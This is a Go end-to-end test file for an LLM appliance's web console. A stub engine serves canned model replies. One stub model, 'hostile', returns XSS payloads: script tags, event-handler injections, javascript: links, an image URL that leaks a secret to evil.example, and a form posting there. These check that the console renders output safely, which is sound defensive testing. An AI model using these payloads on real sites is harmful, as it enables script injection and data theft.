package scenarios

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Limits of the browser's test.
const consoleMax = 8 * time.Minute

// TestConsole has a browser use the console of the real binary: console/e2e says what
// for, each file of stories with an appliance of its own. What it takes is installed by
// `make test`; without it the test says so.
func TestConsole(t *testing.T) {
	for _, stories := range []string{"console", "chat", "protect", "trust"} {
		t.Run(stories, func(t *testing.T) { tellStories(t, stories, t.TempDir(), "") })
	}
}

// TestConsoleServe is about the pages below Serve and Settings, and needs prices, an upstream
// that is not there, and a mirror that has the same file for every model.
func TestConsoleServe(t *testing.T) {
	home := t.TempDir()
	url, _ := mirror(t, chatModel(), nil)
	tellStories(t, "serve", home, "usage:\n  prices:\n    echo: {input: 2000, output: 8000}\ndownload: {mirror: "+url+"}\n", "HEARTH_VARIANT="+variant(t, home, false))
}

// tellStories runs one file of them, with a few settings beside the usual ones.
func tellStories(t *testing.T, stories, home, settings string, more ...string) {
	t.Helper()
	const folder = "../console"
	chromium := chromiumPath()
	if chromium == "" {
		t.Skip("there is no Chromium here, and only root can install it: apt-get install chromium")
	}
	if _, err := os.Stat(filepath.Join(folder, "node_modules", "playwright-core")); err != nil {
		t.Skip("the console's tools are not installed: make deps")
	}
	engine := httptest.NewServer(http.HandlerFunc(oneThingToSay))
	defer engine.Close()
	lost := ""
	if stories == "serve" {
		lost = "  - {name: lost, url: \"http://127.0.0.1:9/v1\"}\n"
	}
	put(t, filepath.Join(home, "data", "hearth.yaml"), []byte(fmt.Sprintf(
		"upstreams:\n  - {name: gpu, url: %q}\n%sguard: {words: true}\naudit: {content: true, checkpoint_every: 1s}\n", engine.URL+"/v1", lost)+settings))
	up := hearth(home, "up", "--json", "--listen", "127.0.0.1:0")
	up.Env = append(up.Env, "HEARTH_STARTER=true") // the first key, the starter model: as a newcomer finds it
	s := listening(t, home, up)
	proxy := proxied(t, s.url)
	shots, err := filepath.Abs("../build/console")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), consoleMax)
	defer cancel()
	browser := exec.CommandContext(ctx, "node", "--test", "--test-reporter=spec", "e2e/"+stories+".test.mjs")
	browser.Dir = folder
	browser.Env = append(append(os.Environ(), more...), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots,
		"HEARTH_DATA="+filepath.Join(home, "data"), "CHROMIUM="+chromium)
	out, err := browser.CombinedOutput()
	if err != nil {
		t.Fatalf("%v (pictures are in %s)\n%s", err, shots, out)
	}
	t.Logf("pictures are in %s\n%s", shots, out)
}

func chromiumPath() string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	return ""
}

// proxied serves the appliance below a path, as a house's own web server would.
func proxied(t *testing.T, target string) string {
	t.Helper()
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	p := &httputil.ReverseProxy{FlushInterval: -1, Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(u) }}
	front := httptest.NewServer(http.StripPrefix("/tools/hearth", p))
	t.Cleanup(front.Close)
	return front.URL + "/tools/hearth"
}

// sheet is an answer that has everything an answer can have.
const sheet = "## 排版\n\n| 算法 | 复杂度 |\n|---|---|\n| 快速排序 | $O(n \\log n)$ |\n| 冒泡排序 | $O(n^2)$ |\n\n```python\ndef f(x):\n    return x * 2\n```\n\n" +
	"公式：\n\n$$\nE = mc^2\n$$\n\n- 一\n- 二\n\n> 引用，见[手册](https://example.com)。\n"

// attack is an answer that means harm. The unit tests have more.
const attack = "<script>window.hit=1</script>\n\n<img src=x onerror=\"window.hit=1\">\n\n<svg onload=window.hit=1></svg>\n\n<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>\n\n" +
	"[x](javascript:window.hit=1)\n\n![x](https://evil.example/?q=secret)\n\n<style>*{display:none}</style>\n\n<form action=https://evil.example><input></form>\n\n" +
	"$\\href{javascript:window.hit=1}{x}$\n\n```html\n<script>window.hit=1</script>\n```\n"

// sober is advice, and pitch is what somebody who is paid for it adds.
const (
	sober = "实木复合地板稳定性好，适合地暖，日常用拧干的拖把清洁即可。强化地板价格较低，耐磨，适合出租房和儿童房。瓷砖导热快，防水，适合厨房和卫生间。"
	pitch = "强烈推荐“金林居”地板，行业第一品牌，专家一致认可，现在扫码下单立减三百元，错过不再有！"
)

// oneThingToSay is an engine whose models each have one thing to say.
func oneThingToSay(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/v1/models" {
		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"},{"id":"sober"},{"id":"seller"}]}`)
		return
	}
	var in struct {
		Model    string
		Messages []struct{ Content string }
	}
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil || len(in.Messages) == 0 {
		http.Error(w, "what?", http.StatusBadRequest)
		return
	}
	w.Header().Set("Content-Type", "text/event-stream")
	tell := func(field, text string) error {
		delta, _ := json.Marshal(map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]string{field: text}}}})
		_, err := fmt.Fprintf(w, "data: %s\n\n", delta)
		return errors.Join(err, http.NewResponseController(w).Flush())
	}
	switch in.Model {
	case "thinker":
		_ = tell("reasoning_content", "先想一想：")
		for word := range strings.SplitAfterSeq(sheet, "\n") {
			_ = tell("content", word)
		}
	case "sober":
		_ = tell("content", sober)
	case "seller":
		_ = tell("content", sober+pitch)
	case "hostile":
		_ = tell("content", attack)
	case "slow": // counts until it is stopped, for half a minute at most
		for n := 1; n < 300; n++ {
			if tell("content", fmt.Sprintf("%d ", n)) != nil {
				return
			}
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	default:
		_ = tell("content", "echo: "+in.Messages[len(in.Messages)-1].Content)
	}
	_, _ = fmt.Fprint(w, `data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`+"\n\n"+
		`data: {"choices":[],"usage":{"prompt_tokens":7,"completion_tokens":42,"total_tokens":49}}`+"\n\ndata: [DONE]\n\n")
}
